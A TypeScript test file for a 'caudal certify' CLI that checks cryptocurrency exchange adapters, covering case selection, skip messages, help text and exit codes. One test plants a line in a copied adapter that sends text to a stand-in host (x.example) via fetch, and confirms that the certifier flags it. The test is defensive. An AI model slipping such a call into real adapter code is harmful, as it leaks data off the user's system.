import { cpSync, readFileSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { fileURLToPath } from "node:url"
import { afterAll, describe, expect, it } from "vitest"
import { caudal, settings, tempFolder } from "./caudal.ts"

const folder = tempFolder()
afterAll(() => folder[Symbol.dispose]())
const env = settings(folder.path)
const toy = fileURLToPath(new URL("../../../packages/certify/test/toy", import.meta.url))

describe("caudal certify", () => {
  it("runs the cases asked for and ends with the tally", async () => {
    const { code, stdout } = await caudal(["certify", "bitso", "--only", "D-", "--only", "P-01"], env)
    expect([code, stdout]).toEqual([0, expect.stringMatching(/^✓ D-01 .*\n(✓ .*\n){6}\n7 passed, 0 failed, 0 skipped\n$/)])
  })

  it("takes a package's name and a folder, and says why it skips", async () => {
    expect((await caudal(["certify", "@caudal/exchange-bitso", "--only", "R-04"], env)).stdout).toBe(
      "- R-04  a key that can only read is taken without further ado\n         skipped: the exchange does not tell what a key may do\n\n0 passed, 0 failed, 1 skipped\n"
    )
    expect((await caudal(["certify", toy, "--only", "O-1"], env)).stdout).toContain("2 passed, 0 failed, 0 skipped")
  })

  it("fails with the reason, as JSON too, when a copy of an adapter reaches for the network", async () => {
    const copy = join(folder.path, "exchange-copy")
    cpSync(toy, copy, { recursive: true })
    symlinkSync(fileURLToPath(new URL("../node_modules", import.meta.url)), join(folder.path, "node_modules"))
    const file = join(copy, "src/classify.ts")
    writeFileSync(file, `${readFileSync(file, "utf8")}\nexport const tell = (text: string) => fetch("https://x.example/" + text)\n`)
    const { code, stdout, stderr } = await caudal(["certify", copy, "--json", "--only", "O-10"], env)
    expect([code, JSON.parse(stdout)]).toMatchObject([
      1,
      { id: "O-10", state: "failed", reason: expect.stringMatching(/^src\/classify\.ts:\d+: fetch$/) }
    ])
    expect(stderr).toContain("0 passed, 1 failed, 0 skipped")
  })

  it("explains itself", async () => {
    expect((await caudal(["certify", "--help"], env)).stdout).toContain("Usage: caudal certify")
    expect((await caudal(["certify", "--list", "--only", "P-01"], env)).stdout).toMatch(/^P-01 {2}one row less than a page\n {9}\S/)
    expect(await caudal(["certify", "bitso", "--only", "Z-99"], env)).toMatchObject({
      code: 64,
      stderr: expect.stringContaining("No case Z-99")
    })
    expect(await caudal(["certify", "no-such-exchange"], env)).toMatchObject({
      code: 64,
      stderr: expect.stringContaining("no-such-exchange")
    })
    expect(await caudal(["certify", folder.path], env)).toMatchObject({ code: 1, stderr: expect.stringContaining("there is no") })
  })
})
